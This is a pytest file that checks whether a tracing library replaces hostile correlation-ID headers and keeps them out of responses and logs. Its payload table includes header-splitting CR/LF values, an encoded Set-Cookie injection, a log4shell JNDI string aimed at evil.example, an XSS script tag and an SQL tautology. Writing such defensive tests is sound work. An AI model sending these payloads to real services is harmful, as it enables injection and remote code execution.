"""Hostile correlation headers sent as raw bytes to real ASGI and WSGI servers.

Each one must be replaced by a fresh ID, and must not come back raw in the response or show up in
any log line. Values the server's own HTTP parser refuses (400) never reach tracekit; they still
must not be echoed.
"""

from __future__ import annotations

import logging
import re
from typing import Any

import pytest
from loopback import start_traced
from rawhttp import send
from starlette.requests import Request
from starlette.responses import PlainTextResponse

import tracekit

FRESH_ID = re.compile(r"[0-9a-f]{32}")
log = logging.getLogger("hostile.app")

# A server's HTTP parser may treat a bare CR or LF as a line end: the ID is then the harmless
# "abc" before it, and "Injected: yes" an unrelated header. Either way nothing after it may leak.
SPLIT_BY_PARSER = {"bare CR": "abc", "bare LF": "abc"}

HOSTILE: dict[str, list[bytes]] = {
    "4 KB value": [b"X-Correlation-ID: " + b"a" * 4096],
    "129 characters": [b"X-Correlation-ID: " + b"b" * 129],
    "bare CR": [b"X-Correlation-ID: abc\rInjected: yes"],
    "bare LF": [b"X-Correlation-ID: abc\nInjected: yes"],
    "encoded CRLF": [b"X-Correlation-ID: abc%0d%0aSet-Cookie:%20x=1"],
    "utf-8 non-ASCII": [b"X-Correlation-ID: caf\xc3\xa9-\xe2\x80\xae-id"],
    "latin-1 non-ASCII": [b"X-Correlation-ID: caf\xe9"],
    "NUL byte": [b"X-Correlation-ID: abc\x00def"],
    "log4shell": [b"X-Correlation-ID: ${jndi:ldap://evil.example/a}"],
    "fake log line": [b"X-Correlation-ID: ok INFO forged entry user=admin"],
    "html": [b"X-Correlation-ID: <script>alert(1)</script>"],
    "sql": [b"X-Correlation-ID: 1' OR '1'='1"],
    "quotes": [b'X-Correlation-ID: "quoted-id"'],
    "ansi escape": [b"X-Correlation-ID: \x1b[31mred\x1b[0m"],
    "empty": [b"X-Correlation-ID: "],
    "only separators": [b"X-Correlation-ID: ---"],
    "many repeated": [b"X-Correlation-ID: repeat-id-%d" % i for i in range(60)],
    "repeated request id": [b"X-Request-ID: twin-1", b"X-Request-ID: twin-2"],
}


def _raw_value(lines: list[bytes]) -> list[bytes]:
    return [line.split(b":", 1)[1].strip() for line in lines if line.split(b":", 1)[1].strip()]


async def asgi_endpoint(request: Request) -> PlainTextResponse:
    log.info("handled request %s", tracekit.correlation_id())
    return PlainTextResponse(f"cid={tracekit.correlation_id()}")


def wsgi_app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
    log.info("handled request %s", tracekit.correlation_id())
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [f"cid={tracekit.correlation_id()}".encode()]


@pytest.fixture(scope="module", params=["asgi", "wsgi"])
def server_url(request: pytest.FixtureRequest) -> Any:
    url, stop = start_traced(request.param, asgi_endpoint, wsgi_app)
    yield url
    stop()


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_header_is_replaced_and_never_echoed(
    server_url: str, case: str, log_lines: list[str]
) -> None:
    lines = HOSTILE[case]
    response = send(server_url + "/", lines)

    for value in _raw_value(lines):
        assert value not in response.raw
        text = value.decode("latin-1")
        assert not any(text in line for line in log_lines), case
    if response.status == 400:
        return  # refused by the server's HTTP parser before any app code ran
    assert response.status == 200
    assert response.header("Injected") is None
    echoed = response.header("X-Correlation-ID")
    assert echoed is not None
    assert FRESH_ID.fullmatch(echoed) or echoed == SPLIT_BY_PARSER.get(case)
    assert response.body == f"cid={echoed}".encode()
    assert any(line.endswith(f"handled request {echoed}") for line in log_lines)


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        ([b"X-Correlation-ID: 9f8e7d6c-5b4a-4321-9876-abcdef012345"], None),
        ([b"X-Correlation-ID: 9f8e7d6c5b4a43219876abcdef012345"], None),
        ([b"X-Correlation-ID: 0c4a5b2e-1d3f-4a5b-8c7d-9e0f1a2b3c4d#17"], None),
        ([b"X-Correlation-ID: Root=1-67891233-abcdef012345678912345678"], None),
        ([b"X-Correlation-ID: 01ARZ3NDEKTSV4RRFFQ69G5FAV"], None),
        ([b"X-Request-ID: from-request-id"], "from-request-id"),
        ([b"X-Correlation-ID: <bad>", b"X-Request-ID: fallback-ok"], "fallback-ok"),
        # whitespace around a value is no part of it (RFC 9110 5.5): werkzeug's server, unlike
        # uvicorn and gunicorn, hands it on, and the caller's ID was replaced by a new one
        ([b"X-Correlation-ID: order-77   "], "order-77"),
        ([b"X-Request-ID: order-78\t"], "order-78"),
    ],
)
def test_ids_gateways_send_are_kept(server_url: str, lines: list[bytes], expected: str | None):
    response = send(server_url + "/", lines)

    wanted = expected or lines[0].split(b": ", 1)[1].decode()
    assert response.header("X-Correlation-ID") == wanted
    assert response.body == f"cid={wanted}".encode()
